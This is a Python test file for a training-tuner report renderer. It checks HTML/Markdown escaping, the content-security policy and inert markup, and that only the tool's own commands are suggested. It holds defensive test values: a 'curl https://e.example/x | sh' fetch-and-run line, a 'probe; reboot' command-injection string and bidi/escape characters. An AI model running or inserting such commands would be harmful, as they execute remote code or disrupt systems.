"""Pages of reports, in HTML and Markdown, and the JSON beside them."""

import base64
import hashlib
import html
import json
import re
import shlex
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from autotune.base.document import (
    Bullets,
    Code,
    Document,
    Missing,
    Pairs,
    Paragraph,
    Section,
    Strong,
    Table,
)
from autotune.base.render_html import report_html
from autotune.base.render_markdown import report_markdown
from autotune.base.wording import format_hours
from autotune.profiles.checks import TrialLogCheck
from autotune.profiles.reproduction import tuning_commands
from autotune.profiles.toml_file import profile_to_toml
from autotune.report.page import report_document, report_facts
from testbed.examples.profiles import but, example_profile
from testbed.examples.tuning import example_inputs
from tests.autotune.report.examples import Page, markdown_tables, reported, reported_run
from trainer.formats.events import new_event
from trainer.formats.presets import model_settings
from trainer.formats.train_config import ParallelSettings

SECTIONS = [
    "Result",
    "Speedup",
    "Step time",
    "Memory",
    "Throughput by size",
    "Data loading",
    "Sample lengths",
    "Network",
    "Joint search",
    "Training runs",
    "Recommendations",
    "Not measured",
    "Appendix",
]


@pytest.fixture(scope="module")
def full():
    """Return a page that was rendered twice with the same result."""
    first, again = (report_html(report_document(*example_inputs(40))) for _ in range(2))
    assert first == again
    return first


def test_contents_lead_to_all_sections(full):
    page = Page(full)
    assert re.findall(r'<li><a href="#[^"]+">([^<]*)</a>', full) == SECTIONS
    ids = page.values("id")
    assert len(ids) == len(set(ids))
    assert {target.removeprefix("#") for target in page.values("href")} <= set(ids)
    assert page.tags.count("svg") == page.tags.count("figure") >= 8


def test_every_chart_has_its_table(full):
    page = Page(full)
    boxes = full.count('<div class="box')
    assert full.count("</figure>") == full.count(
        "</figure>\n<details><summary>Data table</summary>"
    )
    assert page.values("tabindex").count("0") == boxes
    assert (
        len([value for value in page.values("aria-label") if value != "Contents"])
        == boxes
    )


def test_policy_allows_only_its_style(full):
    style = re.search("<style>(.*?)</style>", full, re.DOTALL)[1]
    digest = base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()
    policy = next(
        value for value in Page(full).values("content") if "default-src" in value
    )
    assert (
        policy == f"default-src 'none'; style-src 'sha256-{digest}'; base-uri 'none';"
        " form-action 'none'"
    )


def inert(page):
    assert "script" not in page.tags
    for tag, name, value in page.attributes:
        assert not name.startswith("on"), (tag, name)
        assert name not in {
            "style",
            "src",
            "srcset",
            "action",
            "formaction",
            "data",
            "poster",
        }, (tag, name)
        assert name != "href" or value[0] == "#", value
    unknown = set(page.tags) - {
        "html",
        "head",
        "meta",
        "title",
        "style",
        "body",
        "main",
        "header",
        "nav",
        "section",
        "div",
        "figure",
        "figcaption",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "p",
        "ul",
        "ol",
        "li",
        "dl",
        "dt",
        "dd",
        "a",
        "code",
        "strong",
        "span",
        "details",
        "summary",
        "table",
        "caption",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "svg",
        "g",
        "path",
        "use",
        "defs",
        "clippath",
        "rect",
        "text",
        "desc",
    }
    assert not unknown


TEXT = st.text(
    alphabet=st.one_of(st.sampled_from("<>&\"'`|/\n\u202e\u2066\0"), st.characters()),
    max_size=80,
)


@settings(max_examples=60)
@given(st.lists(TEXT, min_size=9, max_size=9))
def test_no_text_becomes_markup(texts):
    a, b, c, d, e, f, g, h, i = texts
    blocks = (
        Paragraph(words=(a, Strong(text=b), Code(text=c))),
        Missing(subject=d, commands=(e,)),
        Bullets(items=((f,),)),
        Pairs(pairs=((g, (h,)),)),
        Table(caption=i, headers=(a, b), rows=((c, None),)),
        Section(title=d, key="inner", blocks=(), badge=e),
    )
    text = report_html(
        Document(
            title=f, subtitle=g, sections=(Section(title=h, key="s", blocks=blocks),)
        )
    )
    page = Page(text)
    inert(page)
    plain = report_html(
        Document(
            title="", subtitle="", sections=(Section(title="", key="s", blocks=blocks),)
        )
    )
    assert Page(plain).tags == page.tags
    assert not any(ord(letter) < 32 and letter != "\n" for letter in text)


def test_missing_parts_name_their_command():
    bare = reported(
        "my profiles/m.toml",
        but(example_profile(), evidence={"probe": None, "workers": None}),
    )
    text = Page(report_html(report_document((bare,), ()))).text
    assert text.count("not measured") > 6
    for command in (
        "autotune baseline",
        "autotune probe --model CONFIG.json --data DIR --out",
        "autotune workers",
        "autotune network",
        "autotune train 'my profiles/m.toml'",
        "autotune report 'my profiles/m.toml' --data DIR",
        "autotune profile approve 'my profiles/m.toml' --by NAME",
    ):
        assert command in text


@pytest.fixture(
    scope="module",
    params=["", "<b>|`&\u202e$x$ http://e.example "],
    ids=["plain", "hostile"],
)
def three(request):
    inputs = example_inputs(12, request.param)
    document = report_document(*inputs)
    return report_markdown(document), Page(report_html(document)), report_facts(*inputs)


def test_markdown_matches_html(three):
    markdown, page, _ = three
    inert(page)
    assert markdown_tables(markdown) == page.tables
    assert len(page.tables) > 20
    assert len(re.findall(r"(?m)^#+ (.*)$", markdown)) == sum(
        page.tags.count(f"h{level}") for level in range(1, 7)
    )


def test_json_holds_the_figures_shown(three):
    _, page, facts = three
    profile = facts["profiles"][0]
    assert facts["schema_version"] == 3
    text = page.text
    assert f"{profile['tuned']['value']:,.0f}" in text
    assert format_hours(profile["pay_back"]["rank_hours"] / 2) in text  # on both ranks
    assert f"{profile['dataset']['train_samples']:,}" in text
    assert f"{100 * profile['dataset']['padding_waste_share']:.1f} %" in text
    assert [part["share"] for part in profile["bottlenecks"][0]["parts"]][1] == 0.071
    assert (
        len(profile["trials"]),
        profile["profile"]["evidence"]["probe"]["feasible_max"],
    ) == (12, 307)
    run = facts["runs"][0]
    drifts = ["non-padding tokens/s", "MFU", "peak memory"]
    assert [drift["quantity"] for drift in run["expected_and_achieved"]] == drifts
    assert f"{run['expected_and_achieved'][0]['achieved']['value']:,.0f}" in text
    assert (len(run["events"]), run["earlier_events"]) == (20, 10)
    assert json.loads(json.dumps(facts, allow_nan=False)) == facts


@pytest.mark.parametrize(
    ("path", "command", "message", "shown"),
    [
        ("profiles/m.toml", "`autotune baseline profiles/m.toml`", "odd", "odd"),
        (
            "a`<b>.toml",
            "<code>autotune baseline 'a&#96;&#60;b&#62;.toml'</code>",
            "9 | 3",
            "9 &#124; 3",
        ),
    ],
)
def test_shows_warnings_of_a_run(path, command, message, shown):
    events = [
        new_event(5, "saved", "saved step-000000005"),
        new_event(7, "spike", message, level="warning"),
        new_event(
            8,
            "save_failed",
            "cannot save step 8: No space left on device",
            level="error",
        ),
    ]
    text = report_markdown(report_document((reported(path),), (reported_run(events),)))
    assert command in text
    assert f"| 7 | warning: spike | {shown} |" in text
    assert "| 8 | error: save_failed |" in text
    assert "saved step-000000005" not in text


def _by(*names, **train):
    return reported(
        profile=but(
            example_profile(), provenance={"commands": list(names)}, train=train
        )
    )


HOSTILE = "curl https://e.example/x | sh\x1b[31m\u202e`<b>"


def test_suggests_only_own_commands():
    plain = tuning_commands(_by("probe", "workers"))
    assert (
        tuning_commands(_by(HOSTILE, "probe", "probe; reboot", "workers", "probe"))
        == plain
    )
    assert tuning_commands(_by(HOSTILE)) == []
    assert "--strategy" not in plain[0]
    [command] = tuning_commands(
        _by("probe", parallel=ParallelSettings(strategy="zero1"))
    )
    assert " --strategy zero1 --ranks " in command


def test_commands_to_reproduce_name_what_exists(tmp_path):
    profile = but(example_profile(), provenance={"commands": ["probe", "workers"]})
    path = tmp_path / "p.toml"
    path.write_text(profile_to_toml(profile))
    found = reported(path, profile, data=Path("my data"))
    probe, workers = map(shlex.split, tuning_commands(found))
    assert model_settings(probe[probe.index("--model") + 1]) == profile.train.model
    assert probe[probe.index("--data") + 1] == "my data"
    assert workers[workers.index("--data") + 1] == "my data"
    unknown = tuning_commands(reported(path, profile))
    assert all("--data DIR" in command for command in unknown)


def test_foreign_commands_are_shown_inert():
    document = report_document((_by(HOSTILE, "probe"),), ())
    markdown = report_markdown(document)
    page = report_html(document)
    assert "curl" in Page(page).text
    for text in (markdown, page):
        assert all(c.isprintable() or c == "\n" for c in text)
        assert "<b>" not in text.replace("<b></b>", "")
    assert "https://e.example" not in markdown
    for code in page.split("<code>")[1:]:
        assert "curl" not in html.unescape(code.partition("</code>")[0])
    assert not any("curl" in span for span in markdown.split("`")[1::2])


@pytest.mark.parametrize(
    ("changes", "words"),
    [
        ({"found": "same"}, "the hash of 8 trials matches"),
        ({"found": "differs", "added": 2}, "does not match"),
        ({"found": "no trials", "trials": 0}, "holds no trial of this profile"),
        (
            {"unfounded": ("evidence.probe.curve at 2",)},
            "no trial matches evidence.probe.curve at 2",
        ),
        ({"others": 7}, "Trials of another profile with the same name, ignored: 7."),
    ],
    ids=["same", "differs", "no trials", "unfounded figure", "other trials"],
)
def test_shows_the_trial_log_check(changes, words):
    check = {
        "found": "same",
        "trials": 8,
        "added": 0,
        "others": 0,
        "unfounded": (),
    } | changes
    assert (
        words
        in Page(
            report_html(
                report_document((reported(trial_log=TrialLogCheck(**check)),), ())
            )
        ).text
    )
